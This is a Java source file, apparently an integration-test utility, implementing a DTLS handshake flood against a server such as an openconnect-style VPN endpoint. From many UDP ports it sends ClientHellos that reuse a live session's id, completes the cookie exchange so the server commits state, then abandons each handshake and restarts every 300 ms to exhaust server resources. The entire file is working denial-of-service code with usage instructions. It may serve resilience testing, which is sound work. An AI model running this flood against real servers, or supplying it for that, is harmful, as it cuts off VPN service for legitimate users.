package org.headend.it.tools;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetSocketAddress;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;

/**
 * Starts DTLS handshakes it never finishes: from many UDP ports at once, ClientHellos naming a live session's id
 * (what a replayed capture of that session's ClientHello carries), answering each HelloVerifyRequest with its cookie
 * as a real client would, then going silent after the server's first flight, and starting again. Each started
 * handshake holds whatever the server gives a handshake until it times out.
 *
 * <p>Usage: {@code DtlsHelloFlood --host H --port P --session-id HEX --ports N --seconds S}; prints
 * {@code HELLOS=n VERIFY_REQUESTS=m SERVER_FLIGHTS=k}.
 */
public final class DtlsHelloFlood
{
    private static final int HELLO_VERIFY_REQUEST = 3;
    private static final int SERVER_HELLO = 2;
    /** How often each port starts again (a new ClientHello with a fresh random). */
    private static final long RESTART_MILLIS = 300;

    private DtlsHelloFlood()
    {
    }

    public static void main(final String[] argv) throws IOException
    {
        final Args args = new Args(argv);
        final InetSocketAddress target = new InetSocketAddress(args.require("host"),
            Integer.parseInt(args.require("port")));
        final byte[] sessionId = HexFormat.of().parseHex(args.require("session-id"));
        final int portCount = Integer.parseInt(args.get("ports", "20"));
        final long until = System.nanoTime() + Long.parseLong(args.get("seconds", "30")) * 1_000_000_000L;
        final SecureRandom random = new SecureRandom();
        final List<DatagramSocket> sockets = new ArrayList<>();
        long hellos = 0;
        long verifies = 0;
        long flights = 0;
        try
        {
            for (int i = 0; i < portCount; i++)
            {
                final DatagramSocket socket = new DatagramSocket();
                socket.setSoTimeout(1);
                sockets.add(socket);
            }
            // the ClientHello that answers a HelloVerifyRequest must repeat the first one, random included
            final byte[][] randoms = new byte[portCount][32];
            final byte[] buffer = new byte[2048];
            long nextRound = 0;
            while (System.nanoTime() < until)
            {
                if (System.nanoTime() >= nextRound)
                {
                    for (int i = 0; i < portCount; i++)
                    {
                        random.nextBytes(randoms[i]);
                        send(sockets.get(i), target, clientHello(randoms[i], sessionId, new byte[0], 0));
                        hellos++;
                    }
                    nextRound = System.nanoTime() + RESTART_MILLIS * 1_000_000L;
                }
                for (int i = 0; i < portCount; i++)
                {
                    final DatagramSocket socket = sockets.get(i);
                    final DatagramPacket in = new DatagramPacket(buffer, buffer.length);
                    try
                    {
                        socket.receive(in);
                    }
                    catch (final SocketTimeoutException ex)
                    {
                        continue;
                    }
                    if (in.getLength() < 28 || buffer[0] != 22)
                    {
                        continue;
                    }
                    if (buffer[13] == HELLO_VERIFY_REQUEST)
                    {
                        verifies++;
                        final int cookieLength = buffer[27] & 0xFF;
                        final byte[] cookie = new byte[cookieLength];
                        System.arraycopy(buffer, 28, cookie, 0, cookieLength);
                        send(socket, target, clientHello(randoms[i], sessionId, cookie, 1));
                        hellos++;
                    }
                    else if (buffer[13] == SERVER_HELLO)
                    {
                        // the handshake started on the server; this client never goes on with it
                        flights++;
                    }
                }
            }
        }
        finally
        {
            for (final DatagramSocket socket : sockets)
            {
                socket.close();
            }
        }
        System.out.println("HELLOS=" + hellos + " VERIFY_REQUESTS=" + verifies + " SERVER_FLIGHTS=" + flights);
    }

    private static void send(final DatagramSocket socket, final InetSocketAddress target, final byte[] datagram)
        throws IOException
    {
        socket.send(new DatagramPacket(datagram, datagram.length, target));
    }

    /** A DTLS 1.2 ClientHello offering the PSK AES-GCM suites openconnect offers, without extensions. */
    private static byte[] clientHello(final byte[] clientRandom, final byte[] sessionId, final byte[] cookie,
        final int messageSeq)
    {
        final int[] suites = {0x00A8, 0x00A9};
        final int bodyLength = 2 + 32 + 1 + sessionId.length + 1 + cookie.length + 2 + 2 * suites.length + 2;
        final ByteBuffer b = ByteBuffer.allocate(13 + 12 + bodyLength);
        b.put((byte)22).putShort((short)0xFEFF).putShort((short)0).putShort((short)0).putInt(messageSeq);
        b.putShort((short)(12 + bodyLength));
        b.put((byte)1).put(uint24(bodyLength)).putShort((short)messageSeq).put(uint24(0)).put(uint24(bodyLength));
        b.putShort((short)0xFEFD);
        b.put(clientRandom);
        b.put((byte)sessionId.length).put(sessionId);
        b.put((byte)cookie.length).put(cookie);
        b.putShort((short)(2 * suites.length));
        for (final int suite : suites)
        {
            b.putShort((short)suite);
        }
        b.put((byte)1).put((byte)0);
        return b.array();
    }

    private static byte[] uint24(final int value)
    {
        return new byte[] {(byte)(value >>> 16), (byte)(value >>> 8), (byte)value};
    }
}
